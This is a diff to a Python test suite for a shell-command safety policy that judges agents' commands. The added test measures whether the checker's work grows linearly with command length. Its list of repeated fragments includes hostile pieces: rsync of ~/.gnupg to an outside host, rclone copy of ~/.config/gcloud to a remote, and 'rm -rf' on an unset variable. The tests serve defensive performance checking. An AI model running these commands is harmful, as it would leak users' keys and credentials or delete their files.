@@ -1,5 +1,6 @@
 """What is refused, asked about and let through, on a machine with a store and agents' settings."""
 
+import sys
 from pathlib import Path
 from typing import Any
 
@@ -198,6 +199,43 @@ HOSTILE = {
 def test_a_hostile_command_is_answered_all_the_same(machine: Machine, piece: str) -> None:
     assert machine.shell(piece * HOSTILE[piece]).policy is not None
     assert machine.shell("A=aaaaaaaa;" + "A=$A$A$A$A;" * 30 + piece * 30 + "rm $A").policy is not None
+
+
+COSTLY = (
+    "find . -exec ", "-a dist/ ../other-project/dist ", "wget ", "-e ssh ~/.gnupg h.example.net: ", '-rf "$UNSET"/ ', "rm *",
+    "cat ", "mv ", "cargo run < data.txt > /tmp/out.txt\n", "cd ..;rm a;",
+    "rclone copy ~/.config/gcloud remote:x; ", "'' ~/.netrc ",
+)  # fmt: skip
+"""What took seconds just below the limit of what is read: work that grew by the square of the words or of what they mean."""
+_BEFORE = {"''": "look ", "-a dist": "rsync ", "-e ssh": "rsync ", "-rf": "rm "}
+
+
+_PIECES = [*COSTLY[:3], *(pytest.param(piece, marks=pytest.mark.soak) for piece in COSTLY[3:])]
+
+
+@pytest.mark.parametrize("piece", _PIECES)
+def test_the_work_of_judging_grows_with_the_command(machine: Machine, piece: str) -> None:
+    """Counted in calls of functions, which are the same on every machine. Half a million are about 0.1 s."""
+    begin = next((text for beginning, text in _BEFORE.items() if piece.startswith(beginning)), "")
+    less, more = (_work(machine, begin + (piece * 8_000)[:size]) for size in (2_000, 8_000))
+    assert more < 5 * less + 20_000
+    assert more < 1_000_000
+
+
+def _work(machine: Machine, command: str) -> int:
+    count = 0
+
+    def profile(*_: object) -> None:
+        nonlocal count
+        count += 1
+
+    before = sys.getprofile()
+    sys.setprofile(profile)
+    try:
+        machine.shell(command)
+    finally:
+        sys.setprofile(before)
+    return count // 2
 
 
 @each("command", ["(" * 5000 + "rm -rf ~/.tally", "rm -rf ~/.tally " + "x " * 50_000])
